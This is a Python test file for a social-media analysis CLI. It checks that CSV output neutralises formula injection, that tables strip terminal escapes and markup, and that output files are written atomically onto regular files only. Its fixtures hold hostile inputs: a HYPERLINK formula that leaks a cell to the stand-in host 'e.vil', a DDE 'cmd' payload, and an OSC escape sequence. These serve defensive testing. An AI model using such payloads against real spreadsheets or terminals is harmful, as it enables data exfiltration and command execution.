"""What the CLI writes is safe whatever the data says: CSV cells never start a formula, tables
never pass terminal escapes or Rich markup through, and output files are written atomically,
only onto regular files, with one sentence when they cannot be."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import pytest

from shailoo.actors import import_registry
from shailoo.cli.main import app
from shailoo.errors import ShailooError, UsageError
from shailoo.errors import OutputFileError
from shailoo.outputs import atomic_output, csv_cell, write_output
from shailoo.store.loader import import_file
from shailoo.store.workspace import init_workspace

FORMULA = re.compile(r"^\s*[=+\-@\t\r\n＝＋－＠]")
HYPERLINK = '=HYPERLINK("http://e.vil/?"&A1,"click")'
HEADER = ["Page Name", "User Name", "Facebook Id", "Page Category", "Likes at Posting", "Followers at Posting",
          "Post Created", "Type", "Likes", "Comments", "Shares", "Love", "Wow", "Haha", "Sad", "Angry", "Care",
          "Post Views", "Total Views", "URL", "Message", "Link"]


def _row(page, fid, created, post, message):
    return [page, "h", fid, "POLITICIAN", "", "100", created, "Status", "5", "1", "0", "0", "0", "0", "0", "0",
            "0", "0", "0", f"https://www.facebook.com/{fid}/posts/{post}", message, ""]


@pytest.fixture(scope="module")
def ws_path(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("out")
    ws = init_workspace(root / "ws", project="safety")
    (root / "registry.csv").write_text(
        "name,category,platform,account_id,handle,url,aliases\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",candidate,facebook,111,japarov,,=1+1|-2+3\n'
        "@SUM(A1),party,facebook,222,party,,\n", encoding="utf-8")
    import_registry(ws, root / "registry.csv")
    export = root / "=1+1 2021-01-02-12-00-00-KGT-export.csv"  # a file name is data too
    with open(export, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows([
            _row("A", "111", "2020-12-16 10:00:00 KGT", "1", "=1+1 шайлоо " + HYPERLINK),
            _row("A", "111", "2020-12-17 10:00:00 KGT", "2", "\tшайлоо =cmd|' /C calc'!A0"),
            _row("B", "222", "2020-12-18 10:00:00 KGT", "3", "-2+3 шайлоо \x1b]0;pwned\x07 [red]red[/red]"),
            _row(HYPERLINK, "222", "=1+1", "4", "@SUM(1,2) шайлоо"),  # a bad time: quarantined
        ])
    import_file(ws, export)
    ws.close()
    return root / "ws"


def _csv(runner, *args) -> list[list[str]]:
    result = runner.invoke(app, [*args, "-f", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


@pytest.mark.parametrize("command", [["metrics", "top"], ["kwic", "шайлоо"], ["actors", "list"],
                                     ["quarantine", "list"]])
def test_csv_cells_never_start_a_formula(runner, ws_path, command):
    rows = _csv(runner, *command, "-w", str(ws_path))
    cells = [c for row in rows for c in row]
    assert len(rows) > 1
    assert not [c for c in cells if FORMULA.match(c)], [c for c in cells if FORMULA.match(c)]
    assert any(c.startswith(("'=", "'\t", "'-", "'@")) for c in cells)  # the hostile text is there, inert


def test_csv_numbers_stay_numbers(runner, ws_path):
    rows = _csv(runner, "metrics", "top", "-w", str(ws_path))
    header = rows[0]
    assert all(re.fullmatch(r"\d+", row[header.index("interactions")]) for row in rows[1:])
    assert csv_cell(-5) == -5 and csv_cell(-1.5) == -1.5
    assert csv_cell("-5") == "'-5" and csv_cell(["=a", "b"]) == "'=a|b"


def test_tables_pass_no_terminal_escape_or_markup(runner, ws_path):
    result = runner.invoke(app, ["metrics", "top", "-w", str(ws_path), "--full-text"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    from shailoo.cli.common import terminal_text

    assert terminal_text("[red]x[/red] [link=https://e.vil]y\x1b]0;p\x07\x9b").plain == \
        "[red]x[/red] [link=https://e.vil]y\ufffd]0;p\ufffd\ufffd"


# --- writing output files -----------------------------------------------------------------------

def test_atomic_output_replaces_only_when_done(tmp_path):
    target = tmp_path / "r.html"
    target.write_text("old", encoding="utf-8")
    os.chmod(target, 0o640)
    with pytest.raises(RuntimeError):
        with atomic_output(target) as fh:
            fh.write("half")
            raise RuntimeError("stop")
    assert target.read_text(encoding="utf-8") == "old" and os.listdir(tmp_path) == ["r.html"]
    write_output(target, "new")
    assert target.read_text(encoding="utf-8") == "new" and os.listdir(tmp_path) == ["r.html"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o640  # the file keeps its permissions


@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
def test_outputs_only_onto_regular_files(tmp_path, kind):
    target = {"folder": tmp_path / "dir", "fifo": tmp_path / "fifo", "device": Path("/dev/full")}[kind]
    if kind == "folder":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target)
    with pytest.raises(UsageError, match=r"^Cannot write .*: it is a"):
        write_output(target, "x")
    assert os.listdir(tmp_path) == ([target.name] if kind != "device" else [])
    if kind == "device":
        assert stat.S_ISCHR(os.stat(target).st_mode)


def test_a_link_to_a_device_is_refused(tmp_path):
    (tmp_path / "link.html").symlink_to("/dev/null")
    with pytest.raises(UsageError, match="a device"):
        write_output(tmp_path / "link.html", "x")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_read_only_folder_is_one_sentence(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    os.chmod(folder, 0o555)
    try:
        with pytest.raises(OutputFileError, match="permission denied"):
            write_output(folder / "r.html", "x")
    finally:
        os.chmod(folder, 0o755)


def test_os_errors_become_one_sentence_and_leave_nothing(tmp_path, monkeypatch):
    import errno

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputFileError, match=r"^Cannot write .*r\.html: the disk is full; .*\.$"):
        write_output(tmp_path / "r.html", "x")
    assert os.listdir(tmp_path) == []
    monkeypatch.undo()
    with pytest.raises(OutputFileError, match="folder does not exist"):
        write_output(tmp_path / "missing" / "r.html", "x")
    (tmp_path / "file").write_text("x")
    with pytest.raises(ShailooError, match="not a folder"):
        write_output(tmp_path / "file" / "r.html", "x", parents=True)


def test_read_only_file_is_refused(tmp_path):
    target = tmp_path / "r.html"
    target.write_text("old")
    os.chmod(target, 0o444)
    if os.access(target, os.W_OK):
        pytest.skip("root may write a read-only file")
    with pytest.raises(OutputFileError, match="read-only"):
        write_output(target, "new")


@pytest.mark.parametrize("option", ["--out", "--xlsx"])
def test_report_onto_a_device_or_folder_is_one_sentence(runner, ws_path, tmp_path, option):
    # /dev/full through a link: code that renamed onto the target would replace the link, not the device
    (tmp_path / "full").symlink_to("/dev/full")
    (tmp_path / "dir").mkdir()
    os.mkfifo(tmp_path / "fifo")
    for target in ("full", "dir", "fifo"):
        result = runner.invoke(app, ["report", "-w", str(ws_path), "--no-text", option, str(tmp_path / target)])
        assert result.exit_code == 1 and isinstance(result.exception, (SystemExit, type(None))), result.output
        assert "Cannot write" in result.output and "Traceback" not in result.output, result.output
    assert (tmp_path / "full").is_symlink() and stat.S_ISCHR(os.stat(tmp_path / "full").st_mode)
    assert sorted(os.listdir(tmp_path)) == ["dir", "fifo", "full"]


def test_report_checks_both_targets_before_writing(runner, ws_path, tmp_path):
    (tmp_path / "dir.xlsx").mkdir()
    result = runner.invoke(app, ["report", "-w", str(ws_path), "--no-text", "--out", str(tmp_path / "r.html"),
                                 "--xlsx", str(tmp_path / "dir.xlsx")])
    assert result.exit_code == 1 and "Cannot write" in result.output, result.output
    assert sorted(os.listdir(tmp_path)) == ["dir.xlsx"]  # nothing half done


@pytest.mark.parametrize("code,words", [("EACCES", "permission denied"), ("EROFS", "read-only"),
                                        ("ENOSPC", "disk is full")])
def test_report_into_a_folder_it_cannot_write_is_one_sentence(runner, ws_path, tmp_path, monkeypatch, code, words):
    """As root a chmod 555 folder is still writable, so the refusal is simulated where the file is made."""
    import errno

    from shailoo import outputs

    def refuse(target):
        raise OSError(getattr(errno, code), os.strerror(getattr(errno, code)), str(target))

    monkeypatch.setattr(outputs, "_temp_beside", refuse)
    for option in ("--out", "--xlsx"):
        result = runner.invoke(app, ["report", "-w", str(ws_path), "--no-text", option, str(tmp_path / "r.out")])
        assert result.exit_code == 1 and isinstance(result.exception, (SystemExit, type(None))), result.output
        assert f"Cannot write {tmp_path / 'r.out'}" in result.output and words in result.output, result.output
    assert os.listdir(tmp_path) == []


def test_a_lone_carriage_return_cannot_split_a_csv_row_into_a_formula():
    import csv as _csv
    import io as _io

    from shailoo.outputs import csv_writer

    buffer = _io.StringIO()
    csv_writer(buffer).writerow([csv_cell("\r=1+1"), csv_cell("a\rb"), 5])
    rows = list(_csv.reader(_io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["'\r=1+1", "a\rb", "5"]]  # one row: the CR is inside a quoted cell


def test_a_dangling_link_as_output_is_refused_and_creates_nothing(tmp_path):
    from shailoo.errors import UsageError

    link = tmp_path / "r.html"
    link.symlink_to(tmp_path / "missing-folder" / "x.html")
    with pytest.raises(UsageError, match="does not exist"):
        write_output(link, "<html>", parents=True)
    assert not (tmp_path / "missing-folder").exists()
